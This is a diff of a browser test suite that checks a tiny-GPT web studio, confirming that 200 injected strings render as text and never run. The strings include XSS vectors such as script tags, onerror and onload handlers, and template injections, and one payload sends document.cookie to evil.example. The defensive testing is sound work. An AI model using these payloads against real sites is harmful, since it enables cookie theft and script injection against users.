@@ -4,14 +4,23 @@ from __future__ import annotations
 
 import json
 import shutil
+import subprocess
+import sys
 import threading
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 
 import pytest
+from command_line import environment
 from conftest import SHAPE, Studio, Watched, tinygpt
 
 # What runs, if it is taken for markup: in every place where it may land.
-DEEDS = ["hit()", "window.hit=1", "alert(1)", "fetch('//evil.example/'+document.cookie)", "import('//evil.example/x.js')"]
+DEEDS = [
+    "hit()",
+    "window.hit=1",
+    "alert(1)",
+    "fetch('//evil.example/'+document.cookie)",
+    "import('//evil.example/x.js')",
+]
 PLACES = [
     "<script>{0}</script>", "<ScRiPt>{0}</sCrIpT>", "</script><script>{0}</script>", "<script src=//evil.example/{0}></script>",
     "<img src=x onerror={0}>", "<img src=//evil.example/{0}>", "<svg onload={0}>", "<svg><script>{0}</script></svg>",
@@ -23,7 +32,7 @@ PLACES = [
     "<style>*{{background:url(//evil.example/{0})}}</style>", "</textarea><script>{0}</script>", "</title><script>{0}</script>",
     "</style><script>{0}</script>", "--><script>{0}</script><!--", "]]><script>{0}</script>", "\"><script>{0}</script>", "'><script>{0}</script>",
     "\" autofocus onfocus={0} x=\"", "' onmouseover={0} '", "javascript:{0}", "data:text/html,<script>{0}</script>", "{{{{constructor.constructor('{0}')()}}}}",
-    "${{{0}}}", "&lt;script&gt;{0}&lt;/script&gt;", "\u003cscript\u003e{0}\u003c/script\u003e",
+    "${{{0}}}", "&lt;script&gt;{0}&lt;/script&gt;", "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
 ]  # fmt: skip
 STRINGS = [place.format(deed) for place in PLACES for deed in DEEDS]
 COUNT_NODES = "document.querySelectorAll('script, iframe, object, embed, base, form[action], main img, main link, main style, math, marquee').length"
@@ -38,10 +47,31 @@ def hostile(studio_home, tmp_path_factory):
     text = "\n\n".join(f"{string} said the fox. " * 2 for string in STRINGS)
     (home / "strings.txt").write_text(text)
     settings = {**dict(pair.split("=") for pair in SHAPE), "n_embd": "24", "n_heads": "2"}
-    tinygpt(home, "train", "strings.txt", "--run", "strings", "--steps", "6", "--quiet", *(f"{k}={v}" for k, v in settings.items()))
+    tinygpt(
+        home,
+        "train",
+        "strings.txt",
+        "--run",
+        "strings",
+        "--steps",
+        "6",
+        "--quiet",
+        *(f"{k}={v}" for k, v in settings.items()),
+    )
     with (home / "runs" / "strings" / "samples.jsonl").open("a") as file:
         for step, string in enumerate(STRINGS):
-            file.write(json.dumps({"step": step % 7, "prompt": string, "text": " ".join(STRINGS[step:step + 3]), "seed": 0, "temperature": 1.0}) + "\n")
+            file.write(
+                json.dumps(
+                    {
+                        "step": step % 7,
+                        "prompt": string,
+                        "text": " ".join(STRINGS[step : step + 3]),
+                        "seed": 0,
+                        "temperature": 1.0,
+                    }
+                )
+                + "\n"
+            )
     running = Studio(home)
     yield running
     running.stop()
@@ -65,12 +95,39 @@ class Alarmed(Watched):
 def test_200_scripts_in_every_place_stay_text(chromium, hostile):
     """As prompt (typed, on all pages that have one), corpus, sample, and in the address: nothing runs, all is shown."""
     assert len(set(STRINGS)) == 200
-    pages = {"": 0, "tokenizer": 1, "forward": 2, "attention": 3, "lens": 4, "generate": 5, "compare": 6, "memorisation": 7}
+    pages = {
+        "": 0,
+        "tokenizer": 1,
+        "forward": 2,
+        "attention": 3,
+        "lens": 4,
+        "generate": 5,
+        "compare": 6,
+        "memorisation": 7,
+    }
     watched = Alarmed(chromium, hostile)
     page = watched.page
     for name, turn in pages.items():
         first = STRINGS[turn]
-        watched.open(f"/{name}", run="strings", prompt=first, text=first, find=first, other=first, guess=first, box=first, by=first, stage=first, name=first, begin="1", runs=json.dumps([first, "strings", "story"]), over=json.dumps([first]), step=first, pin=first, beside=first)
+        watched.open(
+            f"/{name}",
+            run="strings",
+            prompt=first,
+            text=first,
+            find=first,
+            other=first,
+            guess=first,
+            box=first,
+            by=first,
+            stage=first,
+            name=first,
+            begin="1",
+            runs=json.dumps([first, "strings", "story"]),
+            over=json.dumps([first]),
+            step=first,
+            pin=first,
+            beside=first,
+        )
         watched.check(f"{name}: the address")
         field = page.locator("[data-prompt]").first
         mine = STRINGS[turn :: len(pages)]
@@ -81,7 +138,7 @@ def test_200_scripts_in_every_place_stay_text(chromium, hostile):
         watched.quiet()
         watched.check(f"{name}: {mine[-1]}")
         assert field.input_value() == mine[-1]
-        assert page.locator(".error").all_inner_texts() == [] or name in ("compare",), name
+        assert page.locator(".pane > div > .error").all_inner_texts() == [], name
     for name in ("data", "training", "embeddings", "compare"):  # what the corpus, its tokens and its samples say
         watched.open(f"/{name}", run="strings")
         watched.check(name)
@@ -91,9 +148,12 @@ def test_200_scripts_in_every_place_stay_text(chromium, hostile):
         watched.check(f"{name}: tables")
     watched.open("/training", run="strings", step="0")
     buttons = page.locator("[aria-label='Steps with a sample'] button")
-    assert "<script" in page.locator(".run-sample").inner_text() + page.content().replace("&lt;", "<") and buttons.count() > 0
+    assert (
+        "<script" in page.locator(".run-sample").inner_text() + page.content().replace("&lt;", "<")
+        and buttons.count() > 0
+    )
     watched.check("samples")
-    watched.page.goto(f"{hostile.address}/%3Cscript%3Ehit()%3C%2Fscript%3E")
+    watched.page.goto(f"{hostile.address}/%3Cimg%20src=x%20onerror=hit()%3E")
     page.get_by_role("heading", name="No such page").wait_for()
     watched.check("an unknown page")
     watched.close()
@@ -212,13 +272,11 @@ def test_an_unknown_run_step_or_page_is_said_with_a_way_out(watch):
 
 def test_a_studio_that_stops_and_starts_again(chromium, own_studio):
     """One sentence, no endless noise in the console; after a reload it goes on; the old token says what to do."""
-    tinygpt_words = ("train", "tales.txt", "--run", "live", "--steps", "100000", "--quiet", *SHAPE)
-    import subprocess
-    import sys
-
-    from command_line import environment
-
-    training = subprocess.Popen([sys.executable, "-m", "tinygpt", *tinygpt_words], cwd=own_studio.home, env=environment(own_studio.home), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)  # fmt: skip
+    command = [sys.executable, "-m", "tinygpt", "train", "tales.txt", "--run", "live", "--steps", "100000", *SHAPE]
+    training = subprocess.Popen(
+        [*command, "--quiet"], cwd=own_studio.home, env=environment(own_studio.home), stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+    )  # fmt: skip
     try:
         watched = Watched(chromium, own_studio)
         page = watched.page
